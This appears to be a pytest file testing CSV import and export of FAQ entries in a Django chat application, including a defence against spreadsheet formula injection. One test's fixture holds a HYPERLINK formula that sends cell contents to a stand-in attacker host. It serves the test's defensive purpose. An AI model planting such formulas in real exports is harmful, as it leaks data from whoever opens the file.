"""CSV import and export of FAQ entries, through the services and the admin pages."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from chatapp.faq import services
from chatapp.faq.models import FaqEntry
from tests.chatapp.prompts.factories import template_create
from tests.support.admin import superuser_client

pytestmark = pytest.mark.django_db

CSV = (
    "question,alternates,answer,template,enabled\n"
    'How do I reset my password?,I forgot my password | Need a new password,"Use Settings, '
    'then Security.",,true\n'
    "Where is my parcel?,My order has not arrived,Track it under Orders.,Late order,false\n"
)


def test_import_creates_then_updates_by_question_and_export_round_trips() -> None:
    template_create()  # "Late order"
    report = services.faq_import_csv(text=CSV)
    assert (report.created, report.updated, report.errors) == (2, 0, [])
    entry = FaqEntry.objects.get(question="How do I reset my password?")
    assert entry.phrasings == [
        "How do I reset my password?",
        "I forgot my password",
        "Need a new password",
    ]
    assert entry.answer == "Use Settings, then Security."
    parcel = FaqEntry.objects.get(question="Where is my parcel?")
    assert (parcel.scope, parcel.enabled) == (f"template:{parcel.template_id}", False)

    again = services.faq_import_csv(text=CSV.replace("Track it under Orders.", "See Orders."))
    assert (again.created, again.updated) == (0, 2)
    assert FaqEntry.objects.get(question="Where is my parcel?").answer == "See Orders."

    rows = list(csv.DictReader(io.StringIO(services.faq_export_csv())))
    assert {r["question"] for r in rows} == {"How do I reset my password?", "Where is my parcel?"}
    exported = next(r for r in rows if r["question"].startswith("How"))
    assert exported["alternates"] == "I forgot my password | Need a new password"
    assert exported["hit_count"] == "0"


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (
            "question,answer\nGood?,Fine.\n,Missing question\n",
            "line 3: question and answer are required",
        ),
        (
            "question,answer,template\nGood?,Fine.,\nQ?,A.,No such template\n",
            "line 3: no template named 'No such template'",
        ),
        ("title,body\nQ?,A.\n", "missing column(s): answer, question"),
    ],
)
def test_a_bad_file_imports_nothing_and_says_why(text: str, error: str) -> None:
    report = services.faq_import_csv(text=text)
    assert error in report.errors
    assert FaqEntry.objects.count() == 0  # not even the good row


def test_the_admin_imports_and_exports() -> None:
    client = superuser_client()
    page = client.get("/admin/faq/faqentry/")
    assert "Import CSV" in page.content.decode()
    upload = SimpleUploadedFile("faq.csv", CSV.replace("Late order", "").encode())
    response = client.post("/admin/faq/faqentry/import-csv/", {"csv_file": upload}, follow=True)
    assert "Imported: 2 new, 0 updated." in response.content.decode()
    export = client.get("/admin/faq/faqentry/export-csv/")
    assert export["Content-Type"] == "text/csv"
    assert "How do I reset my password?" in export.content.decode()

    bad = SimpleUploadedFile("faq.csv", b"\xff\xfe not utf8")
    response = client.post("/admin/faq/faqentry/import-csv/", {"csv_file": bad})
    assert "not UTF-8" in response.content.decode()


def test_an_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_unchanged() -> None:
    """A question or answer typed by anyone with admin access (or accepted from a customer's
    suggested phrasing) that starts with =, +, -, @ or a tab would run as a formula when the
    export is opened in Excel or LibreOffice (CSV injection). Such cells are exported with a
    leading apostrophe, which spreadsheets show as text, and import strips it again."""
    FaqEntry.objects.create(
        question='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        alternates="+1 555 0100 is your number?\n@mention me",
        answer="-5% off: use code SAVE5",
    )
    text = services.faq_export_csv()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["question"].startswith("'=")
    assert row["alternates"].startswith("'+")
    assert row["answer"].startswith("'-")

    FaqEntry.objects.all().delete()
    report = services.faq_import_csv(text=text)
    assert (report.created, report.errors) == (1, [])
    entry = FaqEntry.objects.get()
    assert entry.question == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert entry.phrasings[1:] == ["+1 555 0100 is your number?", "@mention me"]
    assert entry.answer == "-5% off: use code SAVE5"
